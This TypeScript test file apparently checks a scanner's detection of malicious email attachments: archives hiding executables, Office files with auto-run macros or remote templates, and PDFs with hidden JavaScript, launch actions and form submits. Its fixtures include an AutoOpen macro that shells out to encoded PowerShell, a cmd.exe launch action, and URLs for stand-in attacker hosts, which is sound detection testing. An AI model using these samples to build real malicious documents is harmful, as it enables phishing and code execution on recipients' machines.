/**
 * Containers: archives (zip listing, nesting, encryption, gzip, tar, formats that cannot be opened),
 * Office documents (VBA and XLM macros, auto-run procedures, remote templates, OLE objects, RTF) and
 * PDFs (JavaScript hidden in object streams, actions, links, forms, embedded files).
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { gzipSync } from 'fflate';
import { EICAR } from '../../src/analysis/attachments/eicar.ts';
import { windowsExecutable } from '../fixtures/mime/generate.ts';
import { buildCfb, macroDocument, ole10Native, vbaProjectBin, xlmWorkbook } from '../fixtures/attachments/cfb.ts';
import { attachment, docx, flateStream, pdf, pdfWithHiddenJavaScript, plainPdf, remoteTemplateRels, RTF_WITH_EQUATION } from '../fixtures/attachments/documents.ts';
import { description, inspect } from '../fixtures/attachments/support.ts';
import { aesExtraField, buildZip } from '../fixtures/attachments/zip.ts';

const AUTO_OPEN = 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "powershell -enc AAAA"\r\nEnd Sub\r\n';
const NO_AUTO = 'Attribute VB_Name = "Module1"\r\nSub FormatTable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n';

/** A ustar archive of one file. */
function tar(name: string, content: Buffer): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0, 'latin1');
  header.write('0000644\0', 100, 'latin1');
  header.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
  header.write('0', 156, 'latin1');
  header.write('ustar\x0000', 257, 'latin1');
  header.fill(' ', 148, 156);
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return Buffer.concat([header, content, Buffer.alloc(512 - (content.length % 512 || 512)), Buffer.alloc(1024)]);
}

describe('archives', () => {
  it('flags an executable inside a zip as decisive, naming the path, and hashes the inner file', async () => {
    const exe = windowsExecutable();
    const outcome = await inspect([await attachment('invoice.zip', buildZip([{ name: 'docs/invoice.pdf.exe', data: exe }]))]);
    assert.ok(outcome.types.includes('archive_executable'));
    assert.ok(outcome.points.malware >= 70);
    assert.match(description(outcome, 'archive_executable'), /"invoice\.zip" contains "invoice\.pdf\.exe"/);
    assert.ok(outcome.iocs.hashes.includes(createHash('sha256').update(exe).digest('hex')));
  });

  it('finds a script two archives deep, and a program inside gzip and tar', async () => {
    const inner = buildZip([{ name: 'run.js', data: Buffer.from('WScript.Shell') }]);
    const nested = await inspect([await attachment('outer.zip', buildZip([{ name: 'inner.zip', data: inner }]))]);
    assert.match(description(nested, 'archive_executable'), /outer\.zip › inner\.zip" contains "run\.js"/);
    const gz = await inspect([await attachment('invoice.gz', Buffer.from(gzipSync(windowsExecutable(), { filename: 'invoice.exe' })))]);
    assert.match(description(gz, 'archive_executable'), /"invoice\.gz" contains "invoice\.exe"/);
    const tarball = await inspect([await attachment('files.tar', tar('files/update.vbs', Buffer.from('CreateObject("WScript.Shell")')))]);
    assert.match(description(tarball, 'archive_executable'), /update\.vbs/);
  });

  it('flags password-protected entries (ZipCrypto flag or AES field) and still reads their names', async () => {
    const zipCrypto = await inspect([await attachment('secure.zip', buildZip([{ name: 'invoice.exe', data: Buffer.from('encrypted bytes'), method: 0, flags: 1 }]))]);
    assert.deepEqual(zipCrypto.types, ['archive_encrypted', 'archive_executable']);
    const aes = await inspect([await attachment('secure.zip', buildZip([{ name: 'report.pdf', data: Buffer.from('ciphertext'), method: 99, flags: 1, extra: aesExtraField() }]))]);
    assert.deepEqual(aes.types, ['archive_encrypted']);
    assert.match(description(aes, 'archive_encrypted'), /password-protected \(1 of 1 entries encrypted\)/);
  });

  it('flags archives it cannot open, with risky names readable in RAR headers', async () => {
    const rar = Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.from('\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00', 'latin1'), Buffer.from('....Payment_Advice.exe\x00...', 'latin1'), Buffer.alloc(64)]);
    const outcome = await inspect([await attachment('Payment.rar', rar)]);
    assert.deepEqual(outcome.types, ['archive_executable', 'archive_unsupported']);
    assert.match(description(outcome, 'archive_executable'), /Payment_Advice\.exe/);
    const sevenZip = await inspect([await attachment('docs.7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(64, 0x11)]))]);
    assert.deepEqual(sevenZip.types, ['archive_unsupported']);
    assert.match(description(sevenZip, 'archive_unsupported'), /7-Zip archive/);
  });
});

describe('Office documents', () => {
  it('flags a .doc whose VBA project runs AutoOpen as decisive, and one without auto-run as macro_document', async () => {
    const auto = await inspect([await attachment('invoice.doc', macroDocument(AUTO_OPEN))]);
    assert.deepEqual(auto.types, ['macro_auto_exec']);
    assert.ok(auto.points.malware >= 65);
    assert.match(description(auto, 'macro_auto_exec'), /AutoOpen.*runs by itself/);
    const manual = await inspect([await attachment('table.doc', macroDocument(NO_AUTO))]);
    assert.deepEqual(manual.types, ['macro_document']);
  });

  it('flags a .docm carrying vbaProject.bin; a plain .docx stays clean; macroEnabled content types alone are weaker', async () => {
    const docm = await inspect([await attachment('invoice.docm', docx([{ name: 'word/vbaProject.bin', data: vbaProjectBin('Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\nEnd Sub\r\n') }]))]);
    assert.deepEqual(docm.types, ['macro_auto_exec']);
    assert.match(description(docm, 'macro_auto_exec'), /Document_Open/);
    const declaredOnly = await inspect([await attachment('x.docm', docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'))]);
    assert.deepEqual(declaredOnly.types, ['macro_enabled_type']);
    assert.deepEqual((await inspect([await attachment('minutes.docx', docx())])).types, []);
  });

  it('flags a remote template (template injection) and records its URL', async () => {
    const outcome = await inspect([await attachment('cv.docx', docx([remoteTemplateRels('https://203.0.113.7/template.dotm')]))]);
    assert.deepEqual(outcome.types, ['office_remote_template']);
    assert.match(description(outcome, 'office_remote_template'), /remote attachedTemplate from https:\/\/203\.0\.113\.7\/template\.dotm/);
    assert.deepEqual(outcome.iocs.urls, ['https://203.0.113.7/template.dotm']);
  });

  it('flags Excel 4.0 macro sheets, with Auto_Open as decisive', async () => {
    assert.deepEqual((await inspect([await attachment('book.xls', xlmWorkbook(false))])).types, ['macro_document']);
    assert.deepEqual((await inspect([await attachment('book.xls', xlmWorkbook(true))])).types, ['macro_auto_exec']);
  });

  it('flags Equation Editor objects, OLE packages (inspecting the embedded file), encrypted documents and MSI installers', async () => {
    const equation = await inspect([await attachment('order.doc', buildCfb([{ name: 'WordDocument', data: Buffer.alloc(100) }, { name: 'ObjectPool', children: [{ name: '_1234', children: [{ name: 'Equation Native', data: Buffer.alloc(64, 1) }] }] }]))]);
    assert.deepEqual(equation.types, ['office_equation_object']);
    const pkg = await inspect([await attachment('scan.doc', buildCfb([{ name: '\u0001Ole10Native', data: ole10Native('scan.js', Buffer.from('WScript.Shell')) }]))]);
    assert.deepEqual(pkg.types, ['archive_executable', 'office_embedded_package']);
    assert.match(description(pkg, 'office_embedded_package'), /"scan\.js"/);
    const encrypted = await inspect([await attachment('salary.xlsx', buildCfb([{ name: 'EncryptionInfo', data: Buffer.alloc(200, 4) }, { name: 'EncryptedPackage', data: Buffer.alloc(5000, 5) }]))]);
    assert.ok(encrypted.types.includes('office_encrypted'));
    const msi = await inspect([await attachment('update.msi', buildCfb([{ name: 'x', data: Buffer.alloc(10) }], Buffer.from('84100c0000000000c000000000000046', 'hex')))]);
    assert.deepEqual(msi.types, ['attachment_executable']);
  });

  it('flags RTF documents with embedded objects and the Equation Editor class', async () => {
    const outcome = await inspect([await attachment('po.rtf', RTF_WITH_EQUATION)]);
    assert.deepEqual(outcome.types, ['office_equation_object', 'rtf_embedded_object']);
  });
});

describe('PDFs', () => {
  it('finds JavaScript hidden in a compressed object stream, run on opening, and the link beside it', async () => {
    const outcome = await inspect([await attachment('statement.pdf', pdfWithHiddenJavaScript())]);
    assert.deepEqual(outcome.types, ['pdf_auto_action', 'pdf_javascript', 'pdf_links']);
    assert.deepEqual(outcome.iocs.urls, ['https://evil.example/pdf-login']);
  });

  it('decodes hex-escaped names and says so; flags /Launch', async () => {
    const outcome = await inspect([await attachment('a.pdf', pdf(['<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (this.print\\(\\)) >> >>', '<< /S /Launch /F (cmd.exe) >>']))]);
    assert.deepEqual(outcome.types, ['pdf_auto_action', 'pdf_javascript', 'pdf_launch_action']);
    assert.match(description(outcome, 'pdf_javascript'), /hex-escaped to hide them: \/JavaScript, \/JS/);
  });

  it('extracts /URI links (literal, escaped and hex strings) as IOCs', async () => {
    const outcome = await inspect([await attachment('invoice.pdf', pdf([
      '<< /Type /Catalog >>',
      '<< /S /URI /URI (https://login.evil.example/a\\(1\\)) >>',
      '<< /S /URI /URI <68747470733a2f2f3139382e35312e3130302e322f78> >>',
    ]))]);
    assert.deepEqual(outcome.types, ['pdf_links']);
    assert.deepEqual(outcome.iocs.urls.sort(), ['https://198.51.100.2/x', 'https://login.evil.example/a(1)']);
    assert.deepEqual(outcome.iocs.ips, ['198.51.100.2']);
    assert.deepEqual(outcome.iocs.domains, ['login.evil.example']);
  });

  it('flags forms that submit to the web and embedded files, inspecting what is embedded', async () => {
    const form = await inspect([await attachment('form.pdf', pdf(['<< /Type /Catalog /AcroForm 2 0 R >>', '<< /Fields [] >>', '<< /S /SubmitForm /F (https://collect.evil.example/f) >>']))]);
    assert.deepEqual(form.types, ['pdf_form_submit']);
    const embedded = await inspect([await attachment('parcel.pdf', pdf(['<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>', '<< /Names [(a) 3 0 R] >>', flateStream('/Type /EmbeddedFile', EICAR)]))]);
    assert.deepEqual(embedded.types, ['eicar_test_file', 'pdf_embedded_file']);
    assert.equal(embedded.verdicts[0]?.threatName, 'EICAR-Test-File');
  });

  it('leaves an ordinary PDF alone', async () => {
    assert.deepEqual((await inspect([await attachment('plain.pdf', plainPdf())])).findings, []);
  });
});
